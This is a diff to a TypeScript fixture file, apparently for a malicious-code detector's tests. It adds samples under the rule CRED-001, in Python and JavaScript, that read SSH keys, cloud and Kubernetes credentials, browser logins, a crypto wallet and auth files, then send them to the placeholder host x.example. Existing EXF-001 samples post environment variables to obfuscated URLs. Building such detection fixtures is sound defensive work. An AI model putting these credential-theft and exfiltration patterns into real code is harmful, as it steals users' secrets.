@@ -1,5 +1,10 @@
 /** Scripts that do harm, by what is seen in them, in Python. */
 export const harmfulPython: Readonly<Record<string, readonly string[]>> = {
+  "CRED-001": [
+    "import json, tarfile, requests\nfrom pathlib import Path\nhome = Path.home()\nfound = {}\nfor name in ['id_rsa', 'id_ed25519']:\n    key = home / '.ssh' / name\n    if key.exists():\n        found[name] = key.read_text()\nfound['aws'] = (home / '.aws/credentials').read_text()\nbox = build(found)\nrequests.post('https://x.example', data=box)",
+    "import os, requests\ndef browser(profile):\n    return open(profile + '/logins.json').read()\ndef coins():\n    return open(os.path.expanduser('~/.config/solana/id.json')).read()\nrequests.post('https://x.example', data=pack(browser, coins))",
+    "import os, socket\nopen(os.path.expanduser('~/.netrc')).read()\nopen(os.path.expanduser('~/.codex/auth.json')).read()\nsocket.create_connection(('x.example', 80))",
+  ],
   "EXF-001": [
     "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9jLnguZXhhbXBsZS9jb2xsZWN0').decode()\nrequests.post(u, json={'a': 1})",
     "import requests\nrequests.get('https://' + bytes.fromhex('636f6c6c6563746f722e782e6578616d706c65').decode() + '/a')",
@@ -107,6 +112,9 @@ export const harmfulPython: Readonly<Record<string, readonly string[]>> = {
 
 /** The same of JavaScript and TypeScript. */
 export const harmfulJavaScript: Readonly<Record<string, readonly string[]>> = {
+  "CRED-001": [
+    "const fs = require('fs'), os = require('os'), https = require('https');\nconst a = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst b = fs.readFileSync(os.homedir() + '/.kube/config');\nhttps.request('https://x.example').end(wrap(a, b));",
+  ],
   "EXF-001": [
     "const u = atob('aHR0cHM6Ly9jLnguZXhhbXBsZS9jb2xsZWN0');\nfetch(u, { method: 'POST', body: 'a' });",
     "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
